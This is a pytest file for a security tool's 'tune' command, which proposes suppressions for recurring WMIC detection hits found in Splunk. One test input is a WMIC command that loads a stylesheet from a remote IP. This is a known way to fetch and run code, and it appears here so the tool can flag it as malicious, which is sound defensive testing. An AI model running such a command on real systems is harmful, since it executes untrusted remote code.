r"""`stockade tune`: what recurred is counted and proposed narrowly; what nobody saw is unknown."""

from __future__ import annotations

import json
import os
import pty
import subprocess
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from connectors.emulators.faults import Misbehaviour
from runner.cli_parser import build_parser
from runner.cli_tune_talk import tune_command
from runner.suppression_file import read_suppressions
from runner.suppression_text import text_of_entries
from runner.tuning import Tuned, Wish, look_back
from runner.tuning_text import tuned_data, tuned_text
from tests.command_line import QUICK, CommandLine, command_line, environment
from tests.polling import raw_hit, watermark
from tests.test_suppressions import AGENT, ENTRY, LINE
from tests.world import World, running_world

USER = r"CORP\svc-inventory"
DAY_S = 86_400
FILE = {"suppressions_file": "suppressions.yaml"}
WEEK = Wish(since=timedelta(days=7))


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path, FILE) as found:
        yield found


def store(
    world: World | CommandLine,
    day: int,
    number: int = 0,
    *,
    cmdline: str = LINE,
    user: str = USER,
    parent: str = f'"{AGENT}" -nightly',
    **more: Any,
) -> None:
    """A hit of so many days ago; `number` tells hits of one day apart."""
    host = f"WS-{number % 3}"
    raw = raw_hit(100 * day + number, host, cmdline) | {"User": user, "ParentCommandLine": parent}
    age_s = day * DAY_S + 3600 + number
    world.splunk.add_event({**raw, **more}, age_s=age_s, index_age_s=age_s)


def nightly(world: World | CommandLine, days: int = 5, a_day: int = 2, **more: Any) -> None:
    for day in range(days):
        for number in range(a_day):
            store(world, day, number, **more)


def tune(world: World, wish: Wish = WEEK) -> Tuned:
    return look_back(world.service, wish, lambda _name, _slice, _left: None)


def reasons(tuned: Tuned) -> dict[str, str | None]:
    """The first example of each cluster, and why it is not proposed."""
    pairs = zip(tuned.clusters, tuned.why_not, strict=True)
    return {cluster.examples[0]: why for cluster, why in pairs}


# -- what is proposed ------------------------------------------------------------------------------


def test_line_that_recurs_is_proposed_with_exactly_what_was_seen(world: World) -> None:
    nightly(world)
    tuned = tune(world)
    (cluster,) = tuned.clusters
    assert (cluster.hits, len(cluster.days), sorted(cluster.hosts)) == (10, 5, ["ws-0", "ws-1"])
    (entry,) = tuned.entries
    assert (entry.search, entry.parent, entry.account) == ("wmic_format_hits", AGENT, USER)
    assert (entry.shape, entry.test, entry.hosts) == (ENTRY.shape, (LINE,), ("WS-0", "WS-1"))
    assert (entry.created, entry.expires) == ("2026-11-25", "2027-02-23")
    text = tuned_text(tuned)
    assert "wmic_format_hits 2026-11-18 11:59 to 2026-11-25 11:59 UTC: 10 hits" in text
    assert "10 hits on 5 days, 2 hosts (10 suspicious): PROPOSED as line-" in text
    assert "which its starter can forge" in text


@pytest.mark.parametrize(
    ("hit", "why"),
    [
        ({"days": 4, "a_day": 9}, "it takes 10 hits on 5 different days"),
        ({"days": 6, "a_day": 1}, "it takes 10 hits on 5 different days"),
        ({"cmdline": "wmic os get x /format:csv"}, "it is benign already, and nobody is asked"),
        ({"cmdline": "wmic os get x /format:http://192.0.2.7/a.xsl"}, "it is malicious"),
        (
            {"cmdline": "wmic os get x /format:lib/csv.xsl"},
            "the stylesheet is not named by its full path on a local drive",
        ),
        (
            {"parent": "agent.exe"},
            "the full path of its parent is not known; have the search return ParentImage",
        ),
        ({"cmdline": "wmic process call create x /format:csv"}, "the line changes something"),
    ],
)
def test_what_is_no_noise_is_not_proposed(world: World, hit: dict[str, Any], why: str) -> None:
    nightly(world, **hit)
    tuned = tune(world)
    assert tuned.entries == ()
    assert str(tuned.why_not[0]).startswith(why)


def test_hits_differ_by_account_parent_and_shape_and_numbers_do_not_matter(world: World) -> None:
    for day in range(5):
        store(world, day, 0, cmdline=rf"wmic process where processid={day} get x /format:D:\r.xsl")
        store(world, day, 1, cmdline=rf"wmic process where processid={day} get x /format:D:\r.xsl")
        store(world, day, 2, user=r"CORP\ann")
        store(world, day, 3, parent=r"C:\Temp\other.exe")
    found = [(one.hits, one.account, one.parent) for one in tune(world).clusters]
    assert found[0] == (10, USER, AGENT)
    assert sorted(found[1:], key=str) == [(5, r"CORP\ann", AGENT), (5, USER, r"C:\Temp\other.exe")]


def test_what_people_agreed_to_act_on_is_not_proposed(world: World) -> None:
    nightly(world, user=r"WORKGROUP\wardog")
    world.arm()
    world.hit(cmdline=LINE, ParentCommandLine=AGENT)
    world.tick()
    world.yes(world.question())
    world.tick()
    tuned = tune(world)
    assert tuned.entries == ()
    assert tuned.why_not == (f"people agreed to act on {world.case().id}, which is one of them",)


def test_what_an_entry_covers_is_not_proposed_again(world: World) -> None:
    nightly(world)
    (world.folder / "suppressions.yaml").write_text(text_of_entries([ENTRY]))
    assert reasons(tune(world)) == {LINE: "inventory covers it"}


def test_passwords_are_masked_on_the_screen_and_in_the_entry(world: World) -> None:
    line = 'wmic /node:"SRV-1" /user:CORP\\svc /password:Geheim123 os get caption'
    nightly(world, cmdline=f"{line} /format:D:\\tools\\r.xsl")
    tuned = tune(world)
    (entry,) = tuned.entries
    assert "/password:*** os get caption" in entry.test[0]
    assert "/password:{secret}" in entry.shape
    assert "Geheim123" not in tuned_text(tuned)
    assert "Geheim123" not in text_of_entries([entry])


def test_tuning_changes_nothing_in_the_journal(world: World) -> None:
    nightly(world)
    world.ticks(1, 60)
    before = (len(world.entries()), len(world.cases()), watermark(world))
    tune(world)
    assert (len(world.entries()), len(world.cases()), watermark(world)) == before


# -- what was not seen -----------------------------------------------------------------------------


def test_day_whose_search_failed_is_unknown_and_never_quiet(world: World) -> None:
    fault = {"isFailed": True, "dispatchState": "FAILED"}
    world.splunk.spoil_job(content=fault, messages=[("FATAL", "the disk is full")])
    tuned = tune(world)
    assert not tuned.is_whole
    text = tuned_text(tuned)
    assert "  UNKNOWN 2026-11-24 11:59 to 2026-11-25 11:59 UTC: FATAL: the disk is full" in text
    assert text.endswith("no hits in what was searched")
    assert tuned_data(tuned)["searched"][0]["unknown"][0]["why"] == "FATAL: the disk is full"


def test_day_with_warnings_keeps_its_rows_and_is_unknown(world: World) -> None:
    nightly(world)
    world.splunk.spoil_job(messages=[("WARN", "an indexer did not answer")])
    tuned = tune(world)
    assert tuned.clusters[0].hits == 10
    assert "UNKNOWN" in tuned_text(tuned)
    assert "an indexer did not answer" in tuned_text(tuned)
    assert not tuned.is_whole


def test_job_that_never_ends_is_given_up_after_ten_minutes_of_the_clock(world: World) -> None:
    world.splunk.spoil_job(never_done=True)
    tuned = tune(world)
    assert "it did not end within 600 seconds" in tuned_text(tuned)
    assert len(tuned.searched[0].slices) == 7


def test_day_with_too_many_rows_is_halved_until_all_are_seen(world: World) -> None:
    nightly(world, days=2, a_day=30)
    world.splunk.tune(row_cap=10)
    world.restart({"connectors": {"splunk": {"options": {"row_cap": 10}}}})
    tuned = tune(world, Wish(since=timedelta(days=2)))
    assert tuned.is_whole
    assert tuned.clusters[0].hits == 60
    assert len(tuned.searched[0].slices) > 2


def test_siem_that_is_down_is_not_asked_for_every_day(world: World) -> None:
    world.splunk.misbehave(Misbehaviour(path="*/dispatch", status=500, times=None, body="{}"))
    tuned = tune(world)
    assert not tuned.is_whole
    (searched,) = tuned.searched
    assert all(one.unknown for one in searched.slices)
    text = tuned_text(tuned)
    assert "UNKNOWN 4 stretches within" in text
    assert "not asked: 3 slices in a row were not answered" in text


def test_saved_search_that_is_gone_ends_it_at_once(world: World) -> None:
    del world.splunk.saved["WMIC format hits"]
    tuned = tune(world)
    asked = [seen for seen in world.splunk.requests if seen.path.endswith("/dispatch")]
    assert len(asked) == 1
    assert "no saved search 'WMIC format hits'" in tuned_text(tuned)
    assert not tuned.is_whole


def test_siem_that_does_not_tell_its_time_was_not_searched(world: World) -> None:
    world.splunk.misbehave(Misbehaviour(path="*", status=401, times=None, body="{}"))
    tuned = tune(world)
    assert not tuned.is_whole
    assert "wmic_format_hits: NOT SEARCHED: " in tuned_text(tuned)


def test_busy_siem_is_waited_for(world: World) -> None:
    nightly(world)
    body = '{"messages": [{"type": "WARN", "text": "Too many concurrent searches"}]}'
    world.splunk.misbehave(Misbehaviour(path="*/dispatch", status=503, times=2, body=body))
    tuned = tune(world)
    assert tuned.is_whole
    assert tuned.clusters[0].hits == 10


def test_ctrl_c_between_two_slices_then_partial_and_what_is_left_is_named(world: World) -> None:
    nightly(world)
    seen: list[object] = []

    def tell(_name: str, one: object, _left: int) -> None:
        seen.append(one)
        if len(seen) == 2:
            raise KeyboardInterrupt

    tuned = look_back(world.service, WEEK, tell)
    assert tuned.is_stopped
    assert not tuned.is_whole
    slices = tuned.searched[0].slices
    assert [one.unknown for one in slices].count(None) == 2
    assert {one.unknown for one in slices[:-2]} == {"stopped before it was asked"}
    assert "stopped before it was asked" in tuned_text(tuned)


def test_ctrl_c_before_the_first_slice_then_said(world: World) -> None:
    def press() -> None:
        raise KeyboardInterrupt

    world.before.append(("GET *", press))
    tuned = look_back(world.service, WEEK, lambda *_: None)
    assert tuned.is_stopped
    assert "NOT SEARCHED: stopped before it was asked" in tuned_text(tuned)


def test_ctrl_c_frees_the_job_and_keeps_what_was_seen(world: World) -> None:
    nightly(world)

    def press() -> None:
        raise KeyboardInterrupt

    seen: list[str] = []

    def tell(_name: str, _slice: object, _left: int) -> None:
        seen.append("x")
        if len(seen) == 2:
            world.before.append(("GET */search/v2/jobs/*", press))

    tuned = look_back(world.service, WEEK, tell)
    assert tuned.is_stopped
    assert not tuned.is_whole
    assert tuned.clusters[0].hits == 4
    assert sum(one.unknown is not None for one in tuned.searched[0].slices) == 5
    started = sum(seen.path.endswith("/dispatch") for seen in world.splunk.requests)
    freed = sum(seen.path.endswith("/control") for seen in world.splunk.requests)
    assert started == freed == 3


# -- the command -----------------------------------------------------------------------------------

WRITE = ("--write", "--owner", "alex", "--reason", "nightly inventory")


@pytest.fixture(scope="module")
def line(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CommandLine]:
    with command_line(tmp_path_factory.mktemp("tune"), {**QUICK, **FILE}) as found:
        nightly(found)
        yield found


WRONG = {
    ("--search", "gone"): "there is no search gone; the configuration has wmic_format_hits",
    ("--since", "91d"): "--since is at most 90d",
    ("--expires", "366d", *WRITE): "--expires is 1d to 365d",
    ("--write", "--owner", "alex"): "--write needs --reason",
    ("--write", "--reason", "x"): "--write needs --owner",
    ("--yes",): "--yes goes with --write",
    WRITE: "repeat with --yes",
    ("--json", *WRITE): "repeat with --yes",
}


def test_wrong_usage_is_one_sentence_before_anything_is_asked(world: World) -> None:
    for words, says in WRONG.items():
        done = tune_command(build_parser().parse_args(["tune", *words]), world.service)
        assert done.code == 2, words
        assert says in done.text
        assert done.data == {"error": done.text}
    world.restart({"suppressions_file": None})
    arguments = build_parser().parse_args(["tune", "--yes", *WRITE])
    assert "names no suppressions_file" in tune_command(arguments, world.service).text
    assert world.sent == []


def test_command_proposes_writes_and_counts(tmp_path: Path) -> None:
    with command_line(tmp_path, FILE) as line:
        nightly(line)
        looked = line("tune", "--since", "6d")
        assert looked.code == 0
        assert "PROPOSED as line-" in looked.out
        assert looked.err.count(" hits; ") == 6
        file = line.folder / "suppressions.yaml"
        assert not file.exists()
        absent = line("tune", "--since", "6d", *WRITE, "--yes", "--only", "line-0")
        assert (absent.code, file.exists()) == (1, False)
        assert "line-0 is not proposed; nothing was written" in absent.err

        written = line("tune", "--since", "6d", *WRITE, "--yes", "--json").value
        (name,) = written["written"]
        assert written["is_whole"] is True
        assert "reason: 'nightly inventory'" in file.read_text()

        line.splunk.add_event(
            raw_hit(9, "WS-1", LINE) | {"User": USER, "ParentCommandLine": AGENT},
            age_s=20,
            index_age_s=20,
        )
        assert line("run").code == 0
        assert line("tune", "--list").out.startswith(f"{name}  1 hit, last ")
        (case,) = line("cases", "--json").value
        assert case["assessment"]["suppression"] == name


@pytest.mark.parametrize(("answer", "count"), [("y\n", 1), ("n\n", 0), ("\n", 0)])
def test_difference_is_shown_and_asked_about_before_it_is_written(
    line: CommandLine, answer: str, count: int
) -> None:
    file = line.folder / "suppressions.yaml"
    file.write_text("# ours\n")
    ours, theirs = pty.openpty()
    os.write(ours, answer.encode())
    done = subprocess.run(
        line.words("tune", "--since", "6d", *WRITE),
        cwd=line.folder,
        env=environment(),
        stdin=theirs,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    os.close(ours)
    os.close(theirs)
    assert done.returncode == 0
    assert "+- id: 'line-" in done.stdout
    assert "[y/N]" in done.stderr
    today = line.splunk.clock.now().date()
    assert len(read_suppressions(file, today).entries) == count
    assert file.read_text().startswith("# ours\n")


def test_command_with_a_part_unseen_exits_with_1_and_says_which(line: CommandLine) -> None:
    line.splunk.spoil_job(content={"isFailed": True, "dispatchState": "FAILED"})
    done = line("tune", "--since", "6d", "--json")
    assert done.code == 1
    assert json.loads(done.out)["is_whole"] is False
    assert "NOT WHOLE" in done.err
